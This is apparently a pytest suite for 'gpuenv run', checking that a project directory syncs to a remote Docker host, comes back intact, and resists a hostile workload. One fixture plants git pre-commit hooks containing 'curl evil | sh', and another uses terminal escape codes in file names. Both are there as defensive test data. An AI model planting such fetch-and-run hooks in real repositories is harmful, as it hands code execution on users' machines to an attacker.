"""`gpuenv run` on another host: an engine that cannot see this machine's files
(support/another_host.py: dockerd in its own network and mount namespaces, the project
directory, gpuenv's cache and HOME hidden from it, reached over TCP+TLS and ssh:// across
a 50 Mbit/s link).

The working directory travels there, the workload sees it at the same path, and what it
writes comes back into the user's directory on every ending: success, a failing exit
code, Ctrl-C. The same project run on the local engine (which sees the directory and binds
it) gives the same output and the same files. gpuenv/run/sync.py is what is under test.

The workload as attacker (issue 44, N3 and N4): a rewrite it leaves in the copy there does
not reach the next run; what it sends back stops at the way out's limits, takes the user's
modes, and a swap, a hard link or a hook under another spelling is a warning or nothing,
never a traceback. The 25,000-file test runs last: the lab's copy is left with them.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.another_host import AnotherHost, another_host
from support.cells import BASE_IMAGE
from support.cli import GPUENV, clean_env, output, run

from gpuenv.run.workdir import MAX_BYTES, MAX_FILES

IMAGE = BASE_IMAGE  # Debian + python3: no cell needs to be built on the lab

TRAIN = """\
import os, sys, time
numbers = [int(x) for x in open("data/in.txt").read().split()]
total = sum(numbers)
os.makedirs("ckpt", exist_ok=True)
with open("ckpt/model.bin", "wb") as fh:
    fh.write(bytes(range(256)) * (total % 7 + 1))
with open("train.log", "a") as log:
    log.write(f"trained on {len(numbers)} numbers: total={total}\\n")
print(f"total={total} cwd={os.getcwd()}", flush=True)
if len(sys.argv) > 1 and sys.argv[1] == "fail":
    sys.exit(3)
if len(sys.argv) > 1 and sys.argv[1] == "wait":
    print("ready", flush=True)
    time.sleep(120)
"""
OUTPUTS = ("ckpt/model.bin", "train.log")


def make_project(path: Path) -> Path:
    """The project, afresh. The directory itself is emptied, never removed: removing it
    would also take away the lab's tmpfs over it (a mount point removed in this namespace
    is detached in the lab's), and the engine would see this machine's directory again."""
    path.mkdir(parents=True, exist_ok=True)
    for child in path.iterdir():
        shutil.rmtree(child) if child.is_dir() and not child.is_symlink() else child.unlink()
    (path / "data").mkdir()
    (path / "train.py").write_text(TRAIN)
    (path / "data" / "in.txt").write_text("1 2 3 4\n")
    (path / ".env").write_text("WANDB_API_KEY=secret\n")  # never leaves this machine
    return path


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AnotherHost]:
    top = tmp_path_factory.mktemp("remote-workdir")
    with another_host(top / "proj", hide=[top / "cache"]) as lab:
        yield lab


def env_for(lab: AnotherHost, kind: str) -> dict[str, str]:
    cache = lab.project_dir.parent / "cache"
    return clean_env(XDG_CACHE_HOME=str(cache), **lab.env(kind))  # type: ignore[arg-type]


def gpuenv_run(
    cwd: Path, env: dict[str, str], *args: str, check: bool = False
) -> subprocess.CompletedProcess[str]:
    return run([*GPUENV, "run", "-i", IMAGE, "--", "python3", "train.py", *args],
               cwd=cwd, env=env, check=check, timeout=300)  # fmt: skip


def crossed(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if "working directory via" in line]
    assert len(lines) == 1, stderr
    return lines[0]


def no_containers(lab: AnotherHost) -> bool:
    return lab.docker("ps", "-aq").stdout.strip() == ""


@pytest.mark.parametrize("kind", ["tls", "ssh"])
def test_the_directory_travels_and_the_outputs_come_back(lab, tmp_path, kind):
    # The reference: the same project on the local engine, which binds the directory.
    here = make_project(tmp_path / "local" / "proj")
    local = gpuenv_run(here, clean_env(XDG_CACHE_HOME=str(tmp_path / "cache")), check=True)
    assert "working directory via" not in local.stderr  # seen, so bound: nothing crossed

    proj = make_project(lab.project_dir)
    env = env_for(lab, kind)
    doctor = run([*GPUENV, "doctor"], cwd=proj, env=env, check=False)
    seen = f"the engine cannot see this directory (the engine's host has a directory {proj}, but"
    assert seen in (doctor.stdout), output(doctor)

    first = gpuenv_run(proj, env, check=True)
    assert first.stdout.replace(str(proj), "P") == local.stdout.replace(str(here), "P")
    assert f"cwd={proj}" in first.stdout  # the same path as its working directory
    for rel in OUTPUTS:
        assert (proj / rel).read_bytes() == (here / rel).read_bytes(), rel
    line = crossed(first.stderr)
    # The lab is the module's: after the [tls] run its copy there still holds that run's two
    # outputs, which this fresh project does not have, so [ssh] removes them there first.
    again = r"(, removed 2 there)?" if kind == "ssh" else ""
    assert re.search(rf"sent 2 files \(\d+ B\){again}, brought back 2 files", line), line
    # What never travels did not: the lab's host has no .env in the copy.
    volume = lab.docker("volume", "ls", "-q", "--filter", "label=io.gpuenv.workdir").stdout
    assert volume.strip()
    mountpoint = lab.docker("volume", "inspect", "-f", "{{.Mountpoint}}", volume.split()[0])
    listed = lab.inside("ls", "-A", mountpoint.stdout.strip()).stdout.split()
    assert sorted(listed) == ["ckpt", "data", "train.log", "train.py"]

    # Edited here: the second run sends that file alone.
    (proj / "data" / "in.txt").write_text("1 2 3 4 5 6\n")
    second = gpuenv_run(proj, env, check=True)
    assert "total=21" in second.stdout
    assert re.search(r"sent 1 file \(12 B\), brought back 2 files", crossed(second.stderr))
    assert (proj / "train.log").read_text().splitlines()[-1] == "trained on 6 numbers: total=21"
    assert no_containers(lab)


def test_a_failing_workload_still_brings_its_outputs_back(lab):
    proj = make_project(lab.project_dir)
    proc = gpuenv_run(proj, env_for(lab, "tls"), "fail")
    assert proc.returncode == 3, output(proc)
    assert (proj / "ckpt" / "model.bin").is_file()
    assert "trained on 4 numbers" in (proj / "train.log").read_text()
    assert no_containers(lab)


def _as_from_a_terminal() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)  # a background suite inherits it ignored


def test_ctrl_c_brings_back_what_was_written_and_exits_130(lab):
    proj = make_project(lab.project_dir)
    proc = subprocess.Popen(
        [*GPUENV, "run", "-i", IMAGE, "--", "python3", "train.py", "wait"],
        cwd=proj, env={**env_for(lab, "tls"), "GPUENV_STOP_GRACE": "2"},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        preexec_fn=_as_from_a_terminal,
    )  # fmt: skip
    try:
        assert proc.stdout is not None
        deadline = time.monotonic() + 120
        while "ready" not in proc.stdout.readline():
            assert time.monotonic() < deadline and proc.poll() is None, proc.stderr
        # Changed here while the workload runs: kept, the workload's copy lands beside it.
        (proj / "train.log").write_text("my own notes\n")
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, err
    assert "Traceback" not in err
    assert (proj / "ckpt" / "model.bin").is_file()
    assert (proj / "train.log").read_text() == "my own notes\n"
    assert "trained on 4" in (proj / "train.log.gpuenv-remote").read_text()
    assert "train.log changed here during the run" in err
    assert no_containers(lab)


def test_a_volume_only_this_machine_has_is_refused_not_bound_empty(lab, tmp_path):
    proj = make_project(lab.project_dir)
    data = lab.project_dir.parent / "cache" / "data-here-only"  # hidden from the lab
    data.mkdir(parents=True, exist_ok=True)
    proc = run([*GPUENV, "run", "-i", IMAGE, "-v", f"{data}:/data", "--", "ls", "/data"],
               cwd=proj, env=env_for(lab, "tls"), check=False)  # fmt: skip
    assert proc.returncode == 125, output(proc)
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error: ")]
    url = lab.docker_host("tls").replace("tcp://", "https://")  # the SDK's URL for tcp+TLS
    assert errors == [
        f"error: -v {data}: no such path on the engine's host ({url}), which cannot see this "
        "machine's files (this machine has it, but gpuenv sends only the working directory); "
        "put the data on that host, or in a volume there (-v NAME:/data)"
    ], proc.stderr
    assert lab.inside("test", "-e", str(data), check=False).returncode != 0  # nothing created
    # The engine host's own paths stay reachable, as Docker users expect.
    lab.inside("mkdir", "-p", "/srv/gpuenv-lab-data")
    lab.inside("sh", "-c", "echo on-the-box > /srv/gpuenv-lab-data/f")
    proc = run([*GPUENV, "run", "-i", IMAGE, "-v", "/srv/gpuenv-lab-data:/data:ro", "--",
                "cat", "/data/f"], cwd=proj, env=env_for(lab, "tls"), check=False)  # fmt: skip
    assert proc.returncode == 0 and proc.stdout == "on-the-box\n", output(proc)
    assert no_containers(lab)


def test_the_local_engine_binds_the_directory_it_sees(tmp_path):
    """No sync where none is needed: the verdict says why, and nothing crosses."""
    proj = make_project(tmp_path / "proj")
    env = clean_env(XDG_CACHE_HOME=str(tmp_path / "cache"))
    doctor = run([*GPUENV, "doctor"], cwd=proj, env=env, check=False)
    assert f"the engine sees this directory (a file gpuenv wrote into {proj} was read back" in (
        doctor.stdout
    ), output(doctor)
    proc = gpuenv_run(proj, env, check=True)
    assert "working directory via" not in proc.stderr
    assert sorted(os.listdir(proj)) == [".env", "ckpt", "data", "train.log", "train.py"]


# -- The workload as attacker (issue 44, N3 and N4): what it leaves there or sends back.


def workload(cwd: Path, env: dict[str, str], code: str) -> subprocess.CompletedProcess[str]:
    return run([*GPUENV, "run", "-i", IMAGE, "--", "python3", "-c", code],
               cwd=cwd, env=env, check=False, timeout=300)  # fmt: skip


def no_traceback(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode == 0, output(proc)
    assert "Traceback" not in proc.stderr, proc.stderr


def warnings(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("gpuenv: warning:")]


REWRITE = """\
import os
st = os.stat("train.py")
old = open("train.py").read()
new = 'print("PWNED")'
open("train.py", "w").write(new + " " * (len(old) - len(new) - 1) + "\\n")
os.utime("train.py", ns=(st.st_atime_ns, st.st_mtime_ns))
os.makedirs("__pycache__", exist_ok=True)
open("__pycache__/planted.pyc", "w").write("x")
"""


def test_a_rewrite_keeping_size_and_mtime_does_not_survive_into_the_next_run(lab):
    # The review's N3: run 1 rewrites train.py keeping size and mtime; the user's copy is
    # untouched, so run 2 sends it again, and what the workload planted where nothing
    # travels (a cache directory) is gone too.
    proj = make_project(lab.project_dir)
    env = env_for(lab, "tls")
    first = workload(proj, env, REWRITE)
    no_traceback(first)
    assert (proj / "train.py").read_text() == TRAIN
    second = run([*GPUENV, "run", "-i", IMAGE, "--", "sh", "-c",
                  "head -c 9 train.py; echo; ls -A"],
                 cwd=proj, env=env, check=False, timeout=300)  # fmt: skip
    no_traceback(second)
    assert second.stdout.splitlines()[0] == "import os", output(second)
    assert "__pycache__" not in second.stdout.split(), output(second)
    assert re.search(
        r"sent 1 file \(\d+ B\)(, removed \d+ there)?, brought", crossed(second.stderr)
    )


SWAP = """\
import os, shutil
shutil.rmtree("out\\x1b[2J")
open("out\\x1b[2J", "w").write("now a file")
os.unlink("res")
os.makedirs("res")
open("res/b.txt", "w").write("now a directory")
open("zz-after.txt", "w").write("still comes back")
"""


def test_a_file_directory_swap_is_a_warning_and_the_rest_comes_back(lab):
    proj = make_project(lab.project_dir)
    (proj / "out\x1b[2J").mkdir()
    (proj / "out\x1b[2J" / "a.txt").write_text("mine")
    (proj / "res").write_text("mine too")
    proc = workload(proj, env_for(lab, "tls"), SWAP)
    no_traceback(proc)
    assert (proj / "out\x1b[2J" / "a.txt").read_text() == "mine"
    assert (proj / "res").read_text() == "mine too"
    assert (proj / "zz-after.txt").read_text() == "still comes back"
    assert "\x1b" not in proc.stderr
    assert sorted(warnings(proc.stderr)) == [
        "gpuenv: warning: out\\x1b[2J not brought back: it is a directory here",
        "gpuenv: warning: res/b.txt not brought back: res is a file here",
    ], proc.stderr


HOOKS = """\
import os
for top in (".Git", ".GIT", "sub/.git"):
    os.makedirs(f"{top}/hooks", exist_ok=True)
    with open(f"{top}/hooks/pre-commit", "w") as fh:
        fh.write("#!/bin/sh\\ncurl evil | sh\\n")
    os.chmod(f"{top}/hooks/pre-commit", 0o755)
open("result.txt", "w").write("ok")
"""


def test_no_vcs_hook_comes_back_under_any_spelling(lab):
    proj = make_project(lab.project_dir)
    proc = workload(proj, env_for(lab, "tls"), HOOKS)
    no_traceback(proc)
    assert (proj / "result.txt").read_text() == "ok"
    assert not [p for p in proj.rglob("*") if "hooks" in p.parts]
    assert "brought back 1 file" in crossed(proc.stderr)


MODES = """\
import os
for name, mode in (("world.txt", 0o666), ("run.sh", 0o4755), ("tool.sh", 0o644),
                   ("notes.txt", 0o777)):
    open(name, "w").write("written there\\n")
    os.chmod(name, mode)
with open("a.bin", "wb") as fh:
    fh.write(b"linked")
os.link("a.bin", "b.bin")
"""


def test_modes_follow_the_umask_and_hard_links_come_back_as_copies(lab):
    proj = make_project(lab.project_dir)
    (proj / "tool.sh").write_text("#!/bin/sh\n")
    (proj / "tool.sh").chmod(0o750)
    (proj / "notes.txt").write_text("mine\n")
    (proj / "notes.txt").chmod(0o600)
    proc = run(["sh", "-c", 'umask 027 && exec "$@"', "sh", *GPUENV, "run", "-i", IMAGE,
                "--", "python3", "-c", MODES],
               cwd=proj, env=env_for(lab, "tls"), check=False, timeout=300)  # fmt: skip
    no_traceback(proc)
    modes = {n: (proj / n).stat().st_mode & 0o7777 for n in
             ("world.txt", "run.sh", "tool.sh", "notes.txt", "a.bin", "b.bin")}  # fmt: skip
    # New files: the user's umask, never an execute bit; a file that was here keeps its own.
    assert modes == {
        "world.txt": 0o640,
        "run.sh": 0o640,
        "tool.sh": 0o750,
        "notes.txt": 0o600,
        "a.bin": 0o640,
        "b.bin": 0o640,
    }, {k: oct(v) for k, v in modes.items()}
    assert (proj / "a.bin").read_bytes() == (proj / "b.bin").read_bytes() == b"linked"
    assert (proj / "a.bin").stat().st_ino != (proj / "b.bin").stat().st_ino
    assert warnings(proc.stderr) == [
        "gpuenv: warning: a.bin, b.bin were hard links there; each came back as a file of its own"
    ], proc.stderr


MANY = """\
import os
os.makedirs("out", exist_ok=True)
for i in range(25_000):
    open(f"out/{i:05}", "w").write("x")
open("zz-last.txt", "w").write("done")
"""


def test_past_the_limits_one_line_names_what_did_not_come_back(lab):
    proj = make_project(lab.project_dir)
    proc = workload(proj, env_for(lab, "tls"), MANY)
    no_traceback(proc)
    assert len(os.listdir(proj / "out")) + (proj / "zz-last.txt").exists() == MAX_FILES == 20_000
    said = warnings(proc.stderr)
    assert said == [
        "gpuenv: warning: 5001 files (5.0 kB) not brought back, past the limits of what gpuenv "
        f"brings back (20000 files, {MAX_BYTES >> 20} MiB): out/ (5000), zz-last.txt; put data "
        "in a volume on the engine (-v NAME:/data)"
    ], said
    assert "brought back 20000 files" in crossed(proc.stderr)
    make_project(proj)  # 20,000 files here would be refused on the way out


# -- What of the user's tree leaves the machine (issue 44, M5, N5, N6): matrix/treepolicy.py.

LIST_TREE = "import os; print(*sorted(os.path.join(d, f) for d, _, fs in os.walk('.') for f in fs))"


def test_no_secret_leaves_this_machine_at_any_depth(lab):
    """A credential two directories down (any case), a key at the top, and `.dockerignore`
    as Docker reads it (`**/*.csv` holds a top-level file, `!` takes one back): what the
    workload on the other host finds is the rest, nothing more."""
    proj = make_project(lab.project_dir)
    for rel in ("sub/dir/.git-credentials", "sub/dir/.NPMRC", "key.pem", "big.csv",
                "data/big.csv", "data/keep.csv", "sub/dir/notes.txt"):  # fmt: skip
        (proj / rel).parent.mkdir(parents=True, exist_ok=True)
        (proj / rel).write_text("secret\n")
    (proj / ".dockerignore").write_text("**/*.csv\n!data/keep.csv\n")
    proc = run([*GPUENV, "run", "-i", IMAGE, "--", "python3", "-c", LIST_TREE], cwd=proj,
               env=env_for(lab, "tls"), check=False, timeout=300)  # fmt: skip
    assert proc.returncode == 0, output(proc)
    assert proc.stdout.split() == ["./.dockerignore", "./data/in.txt", "./data/keep.csv",
                                   "./sub/dir/notes.txt", "./train.py"], output(proc)  # fmt: skip
